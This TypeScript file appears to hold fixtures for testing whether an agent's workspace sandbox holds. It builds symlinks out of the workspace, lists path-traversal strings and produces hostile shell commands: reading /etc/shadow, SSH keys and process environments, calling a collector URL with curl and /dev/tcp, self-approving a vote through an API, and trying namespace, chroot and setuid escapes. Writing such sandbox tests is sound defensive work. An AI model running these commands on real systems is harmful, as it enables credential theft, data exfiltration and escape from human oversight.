/** Places outside of a workspace, and what things left there are called. */
export interface Places {
  /** Of everything that an agent is ordered to leave outside. */
  marker: string;
  bait: string;
  stateDirectory: string;
  /** Runs whose workspaces are other people's. */
  others: readonly string[];
  collectorUrl: string;
  apiUrl: string;
}

/** A command that makes links to what a workspace must not reach. */
export function linksOut({ bait, stateDirectory }: Places): string {
  return `ln -s / all; ln -s ${bait} link; ln -s ${stateDirectory} state; ln -s ../.. up; mkdir -p open; ln -s .. open/up; ln -s / open/all; true`;
}

/** Paths that lead out of a workspace, or would. */
export function pathsOut({ bait, stateDirectory, others }: Places): string[] {
  return [
    "../../../../../../etc/passwd",
    "/etc/passwd",
    "/proc/self/environ",
    "/proc/1/environ",
    "..",
    "../..",
    "/",
    "all/etc/passwd",
    "all/proc/self/environ",
    "all/root",
    "up",
    "up/secret.txt",
    "notes.txt/../../../x",
    "state/secrets.json",
    "%2e%2e/%2e%2e/etc/passwd",
    "..\\..\\etc\\passwd",
    "file:///etc/passwd",
    "~root/.ssh/id_rsa",
    "a\u0000b",
    ".",
    "/workspace/../etc/passwd",
    "open/../closed.txt",
    "open/up/closed.txt",
    "open/all/etc/passwd",
    "closed.txt",
    `${bait}/secret.txt`,
    "link/secret.txt",
    `all${bait}/secret.txt`,
    `${stateDirectory}/secrets.json`,
    ...others.flatMap((id) => [
      `../../${id}/files/secret.txt`,
      `up/${id}/files/secret.txt`,
      `${stateDirectory}/workspaces/${id}/files/secret.txt`,
      `all${stateDirectory}/workspaces/${id}/files/secret.txt`,
    ]),
  ];
}

/** Commands that look, write, send and break out. */
export function commandsOut({ marker, bait, stateDirectory, others, collectorUrl, apiUrl }: Places): string[] {
  const { hostname, port } = new URL(collectorUrl);
  const outside = [
    bait,
    stateDirectory,
    "/",
    "/tmp",
    "/root",
    "/home",
    "/etc",
    "/usr/local",
    "/var/tmp",
    "../..",
    "..",
  ];
  return [
    `cat /etc/shadow /etc/passwd /root/.ssh/* ${bait}/secret.txt ${stateDirectory}/secrets.json link/* 2>&1 | head -c 2000`,
    `find / -name 'secret*' -not -path '/proc/*' 2>/dev/null | head -50 | xargs cat 2>&1 | head -c 4000`,
    ...others.map((id) => `cat ${stateDirectory}/workspaces/${id}/files/* ../../${id}/files/* 2>&1`),
    "env; cat /proc/1/environ /proc/self/environ /proc/[0-9]*/environ 2>&1 | tr '\\0' '\\n' | head -c 4000",
    outside.map((place) => `echo out > ${place}/${marker}`).join("; "),
    `ln ${bait}/secret.txt hard; cp -r ${bait} copied; cat hard copied/* 2>&1; true`,
    `curl -s --max-time 2 ${collectorUrl}/curl || true`,
    `node -e 'fetch("${collectorUrl}/node").catch(() => {})'`,
    `exec 3<>/dev/tcp/${hostname}/${port} && echo GET /sh >&3`,
    `curl -s --max-time 2 -X POST ${apiUrl}/approvals/x/votes -d decision=approve; curl -s --max-time 2 ${apiUrl}/agents || true`,
    "mount -t tmpfs x /usr; unshare -r -m id; nsenter -t 1 -a id; chroot /proc/1/root id; sudo -n id; su root -c id",
    `mknod ${marker}-disk b 8 0; cat /dev/sda /dev/mem 2>&1 | head -c 100; ls /dev`,
    `cp /bin/sh ${marker}-sh && chmod 4777 ${marker}-sh; ls -l /proc/self/fd; ls /proc`,
    `cp notes.txt ../${marker}; cp notes.txt ${stateDirectory}/${marker}; true`,
  ];
}
